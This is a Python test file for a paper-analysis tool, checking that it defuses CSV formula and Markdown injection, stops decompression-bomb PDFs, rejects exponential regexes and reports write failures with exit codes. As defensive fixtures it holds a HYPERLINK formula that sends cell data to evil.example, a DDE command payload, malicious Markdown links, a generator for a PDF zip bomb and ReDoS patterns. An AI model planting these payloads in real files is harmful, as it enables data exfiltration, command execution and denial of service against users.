"""Issue 13, security and clear failures: injected CSV formulas and Markdown, decompression
bombs, catastrophic term regexes, outputs that cannot be written, concurrent Delta
writers, and the exit code of each.

Fixtures are generated here; most tests start no Spark. The last one is one real run on
two hostile PDFs and reads back every CSV and Markdown file it writes.
"""
from __future__ import annotations

import csv
import errno
import logging
import os
import re
import subprocess
import zlib
from pathlib import Path

import pandas as pd
import pytest

from paperscope.cli import commands as cli
from paperscope.cli import entrypoints
from paperscope.core import escape
from paperscope.core.exitcodes import Exit, markdown_table
from paperscope.paper import mentions
from paperscope.paper.pdf.extract import extract
from paperscope.paper.pdf.limits import OK, TOO_LARGE, Limits
from paperscope.paper.pdf.sandbox import Sandbox, extract_isolated
from paperscope.storage import failures
from test_robustness import _hand_pdf, _reportlab

REPO = Path(__file__).resolve().parents[1]
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(1+1)", "\t=1", "\r=1"]


# -- CSV formula injection -------------------------------------------------------------

@pytest.mark.parametrize("text", FORMULAS + ["'=already quoted", "''", "plain", "O'Brien", ""])
def test_csv_cells_are_defused_and_read_back_exactly(text):
    cell = escape.csv_cell(text)
    assert not cell.startswith(escape.FORMULA_START)
    assert escape.csv_unescape(cell) == text


def test_every_csv_writer_goes_through_escape():
    """Any to_csv / csv.writer / DictWriter in the package defuses its cells (escape.csv_*)."""
    offenders = []
    for path in sorted((REPO / "lib" / "paperscope").rglob("*.py")):
        lines = path.read_text(encoding="utf-8").splitlines()
        for i, line in enumerate(lines):
            if re.search(r"\.to_csv\(|csv\.writer\(|DictWriter\(", line) and "escape.csv" not in line:
                nearby = "\n".join(lines[i:i + 8])
                if not re.search(r"escape\.csv_(frame|row|cell)", nearby):
                    offenders.append(f"{path.name}:{i + 1}: {line.strip()}")
    assert not offenders, offenders


def test_downloader_manifest_defuses_and_reads_back(tmp_path):
    from paperscope.sources.corpus.listing import read_manifest
    from paperscope.sources.download.papers import read_manifest as read_downloads
    from paperscope.sources.download.papers import write_manifest

    (tmp_path / "2024").mkdir()
    (tmp_path / "2024" / "a.pdf").write_bytes(b"%PDF-1.4\n%%EOF\n")
    rows = [{"path": "2024/a.pdf", "year": "2024", "paper_id": "x", "title": FORMULAS[0], "status": "fetched"}]
    manifest = tmp_path / "manifest.csv"
    write_manifest(manifest, rows)
    with open(manifest, newline="", encoding="utf-8") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    assert not any(c.startswith(escape.FORMULA_START) for c in cells)
    assert read_downloads(manifest)["2024/a.pdf"]["title"] == FORMULAS[0]
    [row], problems = read_manifest(str(manifest), [])
    assert row["title_hint"] == FORMULAS[0] and not problems


def test_review_list_defuses_its_tab_separated_output(capsys):
    from paperscope.report.review.cli import main
    from paperscope.storage import schemas

    row = {"review_id": "r" * 20, "raw": "=cmd|' /C calc'!A0", "corrected_country": "US", "verdict": "wrong",
           "reviewer": "@me", "reviewed_at": "2026-01-01", "paper_id": "p" * 20, "note": "-x"}
    stored = pd.DataFrame([{**dict.fromkeys(schemas.REVIEWS.fieldNames()), **row}])
    assert main(["list", "--set", "input.corpus=x"], io=(lambda: stored, None)) == 0
    lines = capsys.readouterr().out.splitlines()
    cells = [c for line in lines[1:] for c in line.split("\t")]
    assert len(lines) == 2 and "'=cmd|' /C calc'!A0" in cells and "'@me" in cells
    assert not any(c.startswith(escape.FORMULA_START) for c in cells), cells


# -- Markdown injection ----------------------------------------------------------------

LINK_TITLE = "Great [click here](http://evil.example) paper ![x](http://evil.example/p.png) <b>bold</b> www.evil.example"


def _rendered(markdown: str) -> str:
    mistune = pytest.importorskip("mistune")
    return mistune.html(markdown)


@pytest.mark.parametrize("text", [LINK_TITLE, "# not a heading", "- not a list", "1. not a list", "*not em* _nor_ this",
                                  "a | b", "`code` and \\ backslash", "https://evil.example/x"])
def test_markdown_text_renders_as_the_literal_string(text):
    html = _rendered(f"- {escape.md_text(text)}\n")
    assert "<a " not in html and "<img" not in html and "<em>" not in html and "<code>" not in html
    assert "<h1>" not in html and html.count("<li>") == 1 and "<b>" not in html


@pytest.mark.parametrize("name", ["/c/2024/a`b`.pdf", "/c/``x``.pdf", "`lead.pdf", "trail.pdf`", "/c/a [l](http://e).pdf"])
def test_a_backquote_cannot_break_out_of_a_code_span(name):
    import html as std_html

    rendered = _rendered(escape.md_code(name) + "\n")
    [code] = re.findall(r"<code>(.*?)</code>", rendered, re.S)
    assert std_html.unescape(code) == name and "<a " not in rendered


def test_a_fence_cannot_be_closed_by_the_text():
    text = "a: 1\n```\n# not markdown\n"
    rendered = _rendered(escape.md_fence(text, "yaml"))
    assert "<h1>" not in rendered and rendered.count("<pre>") == 1


def test_metadata_agreement_table_escapes_titles():
    from paperscope.sources.metadata.agreement import agreement_markdown

    diff = pd.DataFrame([{"title_pdf": LINK_TITLE + " | x", "has_us_pdf": 1, "has_cn_pdf": 0, "has_us_meta": 0,
                          "has_cn_meta": 1, "matched_by": "title"}])
    summary = {k: 1 for k in ("matched", "matched_by_source_id", "matched_by_title", "pdf_papers", "metadata_papers",
                              "has_us_agree", "has_cn_agree", "both_agree")}
    rendered = _rendered(agreement_markdown(summary, diff))
    assert "<a " not in rendered and "<img" not in rendered


# -- Decompression bombs ---------------------------------------------------------------

def _bomb(megabytes: int) -> bytes:
    """A one-page PDF whose content stream is a few hundred KB of Flate inflating to `megabytes` MB of zeros."""
    deflate = zlib.compressobj(9)
    chunk = b"\0" * (1 << 20)
    stream = b"".join([deflate.compress(chunk) for _ in range(megabytes)] + [deflate.flush()])
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
               b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(stream) + stream + b"\nendstream"]
    return _hand_pdf(objects)


@pytest.fixture(scope="module")
def bomb():
    data = _bomb(200)
    assert len(data) < 1 << 20
    return data


def test_a_stream_bomb_stops_at_the_stream_limit(bomb):
    got = extract_isolated(bomb, Limits.from_config(timeout_seconds=60, max_stream_bytes=16 << 20))
    assert got.status == TOO_LARGE and "extract.max_stream_bytes=16777216" in got.error
    assert got.extract_seconds < 30


def test_a_bomb_stops_at_the_memory_limit_of_the_child(bomb):
    got = extract_isolated(bomb, Limits.from_config(timeout_seconds=60, max_memory_bytes=96 << 20, max_stream_bytes=0))
    assert got.status == TOO_LARGE and "extract.max_memory_bytes=100663296" in got.error
    assert got.extract_seconds < 30


def test_after_a_bomb_the_next_pdf_gets_a_fresh_child(bomb):
    """A child that hit its memory cap ends; the next PDF is read with the whole cap again."""
    child = Sandbox(Limits.from_config(timeout_seconds=60, max_memory_bytes=96 << 20, max_stream_bytes=0))
    try:
        assert child.extract(bomb).status == TOO_LARGE
        assert child.pid is None
        got = child.extract(_reportlab(text="After the bomb"))
        assert got.status == OK, got.error
    finally:
        child.close()


def test_bomb_limits_are_settings_with_defaults():
    from paperscope.core.config import load_config

    cfg = load_config()
    limits = Limits.from_config(cfg)
    assert limits.max_memory_bytes == cfg.extract.max_memory_bytes > 0
    assert limits.max_stream_bytes == cfg.extract.max_stream_bytes > 0


def test_ordinary_streams_pass_the_stream_limit():
    import io

    from reportlab.pdfgen import canvas

    buf = io.BytesIO()
    c = canvas.Canvas(buf, pageCompression=1)
    c.setFont("Helvetica-Bold", 18)
    c.drawString(72, 720, "A Title That Is Long Enough")
    c.save()
    got = extract(buf.getvalue(), Limits.from_config(max_stream_bytes=1 << 20))
    assert got.status == OK and "A Title" in got.full_text


# -- Catastrophic regexes in terms -----------------------------------------------------

def _terms(variant: str) -> str:
    return ("terms:\n- {name: Slow, kind: method, origin: {organisation: X, country: null}, case_sensitive: true,\n"
            f"   variants: ['{variant}']}}\n")


@pytest.mark.parametrize("variant", [r"(a+)+b", r"(?:\w+\s?)+x", r"(a|aa)*c", r"(a*a*)*b", r"(?:a|b+)+c"])
def test_check_refuses_provably_exponential_variants(tmp_path, capsys, variant):
    terms = tmp_path / "terms.yaml"
    terms.write_text(_terms(variant), encoding="utf-8")
    code = cli.main(["check", "--corpus", str(REPO / "sample" / "corpus"), "--set", f"mentions.terms_file={terms}",
                     "--warehouse", str(tmp_path / "wh"), "--reports", str(tmp_path / "r")])
    err = capsys.readouterr().err.strip().splitlines()
    assert code == Exit.BAD_INPUT and len(err) == 1
    assert "term #1 (Slow)" in err[0] and "exponential" in err[0] and repr(variant) in err[0]


@pytest.mark.parametrize("variant", [r"GPT-?\d+(\.\d+)?", r"(a|ab)*c", r"(?:ab|ac)+", r"qwen(?:[- ]?\d+(?:\.\d+)*)?"])
def test_check_keeps_safe_variants(variant):
    assert mentions.dangerous(variant) is None


def test_packaged_terms_pass_the_check():
    assert all(mentions.dangerous(p.pattern) is None for p in [t.regex for t in mentions.load_terms()])


@pytest.mark.slow
def test_a_slow_variant_the_check_cannot_prove_stops_at_the_paper_time_limit():
    variant = r"(?:x?a|a)+b"  # exponential on "b aaaa...!", not proved by dangerous()
    assert mentions.dangerous(variant) is None
    terms = mentions.parse_terms(_terms(variant) + "- {name: Fine, kind: method, origin: {organisation: Y, "
                                 "country: null}, case_sensitive: true, variants: ['fine']}\n")
    text = "fine work. b " + "a" * 60 + "!"
    with pytest.raises(mentions.TermTimeout) as caught:
        mentions.count_terms(text, terms, timeout_s=0.5)
    assert caught.value.term == "Slow" and "mentions.timeout_seconds=0.5" in str(caught.value)
    assert mentions.count_terms("fine", terms[1:], timeout_s=0.5) == [("Fine", 1, 1)]


# -- Typed settings refuse bad download and input options -------------------------------

@pytest.mark.parametrize("setting, message", [
    ("input.glob=5", "input.glob must be a string"),
    ("download.max_bytes=-1", "download.max_bytes must be > 0"),
    ("download.backoff_s=-2", "download.backoff_s must be >= 0"),
    ("download.backoff_max_s=-1", "download.backoff_max_s must be >= 0"),
    ("download.pdf_link=(", "download.pdf_link must be a valid regex"),
    ("delta.conflict_retries=-1", "delta.conflict_retries must be >= 0"),
    ("extract.max_memory_bytes=-1", "extract.max_memory_bytes must be >= 0"),
    ("mentions.timeout_seconds=-1", "mentions.timeout_seconds must be >= 0"),
])
def test_bad_options_are_one_line_and_exit_2(tmp_path, capsys, setting, message):
    code = cli.main(["check", "--corpus", str(REPO / "sample" / "corpus"), "--set", setting])
    err = capsys.readouterr().err.strip().splitlines()
    assert code == Exit.BAD_INPUT and len(err) == 1 and message in err[0], err


# -- Outputs that cannot be written: before Spark starts -------------------------------

def _check(tmp_path, *flags) -> list:
    return ["check", "--corpus", str(REPO / "sample" / "corpus"), "--warehouse", str(tmp_path / "wh"),
            "--reports", str(tmp_path / "reports"), *flags]


@pytest.mark.parametrize("where", ["warehouse", "reports"])
@pytest.mark.parametrize("shape", ["is_a_file", "under_a_file"])
def test_an_output_that_is_a_file_stops_before_spark(tmp_path, capsys, where, shape):
    blocker = tmp_path / "blocker"
    blocker.write_text("x")
    target = blocker if shape == "is_a_file" else blocker / "sub" / "dir"
    code = cli.main(_check(tmp_path, f"--{where}", str(target)))
    err = capsys.readouterr().err.strip().splitlines()
    assert code == Exit.NOT_WRITABLE and len(err) == 1
    assert f"{where}.path {target}" in err[0] and "is a file, not a folder" in err[0]


@pytest.fixture
def read_only_dir(tmp_path, monkeypatch):
    """A read-only folder: a read-only tmpfs when this root may mount one, else a probe that
    fails as the kernel would (chmod does not stop root)."""
    target = tmp_path / "ro"
    target.mkdir()
    mounted = os.geteuid() == 0 and subprocess.run(
        ["mount", "-t", "tmpfs", "-o", "size=1m,ro", "tmpfs", str(target)], capture_output=True).returncode == 0
    if not mounted:
        real = failures.tempfile.mkstemp

        def refuse(*args, dir=None, **kwargs):
            if dir and str(dir).startswith(str(target)):
                raise OSError(errno.EROFS, "Read-only file system", str(dir))
            return real(*args, dir=dir, **kwargs)
        monkeypatch.setattr(failures.tempfile, "mkstemp", refuse)
    yield target
    if mounted:
        subprocess.run(["umount", str(target)], capture_output=True)


@pytest.mark.parametrize("where", ["warehouse", "reports"])
def test_a_read_only_output_stops_before_spark(tmp_path, capsys, read_only_dir, where):
    code = cli.main(_check(tmp_path, f"--{where}", str(read_only_dir / "out")))
    err = capsys.readouterr().err.strip().splitlines()
    assert code == Exit.NOT_WRITABLE and len(err) == 1
    assert f"{where}.path {read_only_dir / 'out'}" in err[0] and "read-only" in err[0]


def test_a_writable_output_is_left_as_it_was(tmp_path, capsys):
    assert cli.main(_check(tmp_path)) == Exit.OK
    assert sorted(p.name for p in tmp_path.iterdir()) == []  # nothing created, probe removed


def test_a_run_with_a_broken_suite_stops_before_any_table(spark, tmp_path, capsys):
    """A run checks the suites while Spark starts; a broken one is exit 2, nothing written."""
    suites = tmp_path / "suites"
    suites.mkdir()
    (suites / "papers.json").write_text("{not json")
    code = cli.main(["run", "--corpus", str(REPO / "sample" / "corpus"), "--warehouse", str(tmp_path / "wh"),
                     "--reports", str(tmp_path / "r"), "--set", f"quality.expectations_dir={suites}",
                     "--set", f"delta.jar_cache={REPO / '.cache' / 'jars'}"])
    err = capsys.readouterr().err
    assert code == Exit.BAD_INPUT and "expectation suite file" in err
    assert not (tmp_path / "wh").exists() or not any((tmp_path / "wh").iterdir())
    left = sorted(p.relative_to(tmp_path / "r").parts[0] for p in (tmp_path / "r").rglob("*") if p.is_file())
    assert set(left) <= {"logs"}, left  # the run's log file, nothing a report would read


# -- Failures during the run: one line, their own exit code ----------------------------

def _run_raising(monkeypatch, tmp_path, capsys, exc) -> tuple[int, list[str]]:
    def boom(*args):
        raise exc
    monkeypatch.setattr(cli, "_run_step", boom)
    code = cli.main(["run", "--corpus", str(REPO / "sample" / "corpus"), "--warehouse", str(tmp_path / "wh"),
                     "--reports", str(tmp_path / "r")])
    return code, capsys.readouterr().err.strip().splitlines()


def test_a_full_disk_while_writing_is_one_line_and_exit_4(monkeypatch, tmp_path, capsys):
    code, err = _run_raising(monkeypatch, tmp_path, capsys,
                             OSError(errno.ENOSPC, "No space left on device", str(tmp_path / "r" / "audit.csv")))
    assert code == Exit.NOT_WRITABLE and len(err) == 1
    assert "audit.csv" in err[0] and "the disk is full" in err[0] and "free some space" in err[0]


class FakeJavaError(Exception):
    """What Py4J raises for a JVM error: its text is the Java exception and stack."""


def test_a_full_disk_in_the_jvm_names_the_table(tmp_path):
    calls = []

    def write():
        calls.append(1)
        raise FakeJavaError("An error occurred while calling o123.save.\n: org.apache.spark.SparkException: "
                            "Job aborted.\nCaused by: java.io.IOException: No space left on device\n\tat ...")
    with pytest.raises(failures.OutputNotWritable) as caught:
        failures.with_retries(write, "year 2025 of /wh/papers", retries=3, backoff_s=0)
    assert len(calls) == 1 and "cannot write year 2025 of /wh/papers: the disk is full" in str(caught.value)
    assert failures.classify(caught.value)[0] == Exit.NOT_WRITABLE


@pytest.mark.skipif(os.geteuid() != 0, reason="mounting a small tmpfs needs root")
def test_a_real_full_tmpfs_is_reported_as_full(tmp_path):
    target = tmp_path / "small"
    target.mkdir()
    if subprocess.run(["mount", "-t", "tmpfs", "-o", "size=64k", "tmpfs", str(target)],
                      capture_output=True).returncode != 0:
        pytest.skip("mount not permitted here")
    try:
        def fill():
            with open(target / "big.bin", "wb") as fh:
                fh.write(b"\0" * (1 << 20))
        with pytest.raises(failures.OutputNotWritable, match="the disk is full"):
            failures.with_retries(fill, f"reports.path {target}", retries=0, backoff_s=0)
    finally:
        subprocess.run(["umount", str(target)], capture_output=True)


def _delta_conflicts():
    exceptions = pytest.importorskip("delta.exceptions")
    return [getattr(exceptions, name) for name in ("ConcurrentAppendException", "ConcurrentWriteException",
                                                   "MetadataChangedException", "ProtocolChangedException")]


@pytest.mark.parametrize("index", range(4))
def test_delta_conflicts_are_retried_then_succeed(index):
    kind = _delta_conflicts()[index]
    calls = []

    def write():
        calls.append(1)
        if len(calls) < 3:
            raise kind("[DELTA_CONCURRENT_APPEND] Files were added to partition [year=2025] by a concurrent update.")
    failures.with_retries(write, "year 2025 of /wh/papers", retries=3, backoff_s=0)
    assert len(calls) == 3


def test_a_table_created_concurrently_is_a_conflict():
    kind = _delta_conflicts()[3]
    err = kind("The protocol version of the Delta table has been changed by a concurrent update. This happens "
               "when multiple writers are writing to an empty directory.")
    assert failures.is_conflict(err)
    assert failures.is_conflict(FakeJavaError("io.delta.exceptions.ConcurrentAppendException: Files were added"))
    assert not failures.is_conflict(ValueError("a bug"))


def test_a_lasting_conflict_names_table_and_year_and_exits_5(monkeypatch, tmp_path, capsys, caplog):
    kind = _delta_conflicts()[0]
    calls = []

    def write():
        calls.append(1)
        raise kind("Files were added to partition [year=2025] by a concurrent update.")
    with caplog.at_level(logging.WARNING, logger="paperscope.storage.failures"):
        with pytest.raises(failures.WriteConflict) as caught:
            failures.with_retries(write, "year 2025 of /wh/papers", retries=2, backoff_s=0)
    assert len(calls) == 3 and len([r for r in caplog.records if "retry" in r.getMessage()]) == 2
    assert "another run is writing year 2025 of /wh/papers" in str(caught.value) and "run again" in str(caught.value)
    code, err = _run_raising(monkeypatch, tmp_path, capsys, caught.value)
    [log] = (tmp_path / "r" / "logs").glob("*-run.log")
    assert code == Exit.CONFLICT and err == [f"paperscope: error: {caught.value} (the stack: {log})"]
    assert "Traceback" in log.read_text(encoding="utf-8")


def test_write_years_passes_the_years_and_retries_to_the_writer(monkeypatch):
    from paperscope.core.config import load_config
    from paperscope.storage import tables

    seen = {}
    monkeypatch.setattr(failures, "with_retries",
                        lambda write, what, retries, backoff_s: seen.update(what=what, retries=retries))

    class Writer:
        def __getattr__(self, name):
            return lambda *a, **k: self

    class Frame:
        write = Writer()

        def repartition(self, *cols):
            return self
    cfg = load_config(None, ["input.corpus=x", "warehouse.path=/wh", "delta.conflict_retries=7"])
    tables.write_years(Frame(), cfg, "papers", [2025])
    assert seen == {"what": "year 2025 of /wh/papers", "retries": 7}


def test_an_unknown_error_is_one_line_exit_6_and_its_stack_in_the_log(monkeypatch, tmp_path, capsys):
    code, err = _run_raising(monkeypatch, tmp_path, capsys, ZeroDivisionError("a bug is a bug\nsecond line"))
    [log] = (tmp_path / "r" / "logs").glob("*-run.log")
    assert code == Exit.FAILED == 6
    assert err == [f"paperscope: error: stopped by ZeroDivisionError: a bug is a bug (the stack: {log})"]
    text = log.read_text(encoding="utf-8")
    assert "Traceback" in text and "ZeroDivisionError: a bug is a bug" in text and "second line" in text


def test_a_permission_error_outside_a_write_is_not_called_unwritable():
    assert failures.classify(PermissionError(errno.EACCES, "Permission denied", "/in/put.pdf")) is None
    assert failures.classify(OSError(errno.EROFS, "Read-only file system", "/out/x"))[0] == Exit.NOT_WRITABLE


def test_review_import_into_a_busy_table_is_one_line(tmp_path, capsys, monkeypatch):
    from paperscope.report.review.cli import main

    def busy(_rows):
        raise failures.WriteConflict("another run is writing /wh/reviews at the same time; run again")
    monkeypatch.setattr("paperscope.report.review.cli.import_sheet", lambda path, cfg, who, load, append: append(None))
    sheet = tmp_path / "s.csv"
    sheet.write_text("run_id\nr1\n", encoding="utf-8")
    code = main(["import", str(sheet), "--set", "input.corpus=x"], io=(lambda: None, busy))
    err = capsys.readouterr().err.strip().splitlines()
    assert code == Exit.CONFLICT and err == ["paperscope: error: another run is writing /wh/reviews at the same "
                                             "time; run again"]


def test_entry_points_exit_with_the_same_codes(monkeypatch):
    monkeypatch.setattr(entrypoints, "main", lambda argv: Exit.NOT_WRITABLE)
    monkeypatch.setattr("sys.argv", ["paperscope-run"])
    with pytest.raises(SystemExit) as caught:
        entrypoints.run()
    assert caught.value.code == 4 and type(caught.value.code) is int


def test_readme_exit_code_table_is_the_enum():
    readme = (REPO / "README.md").read_text(encoding="utf-8")
    assert markdown_table() in readme
    assert [e.value for e in Exit] == list(range(len(Exit)))
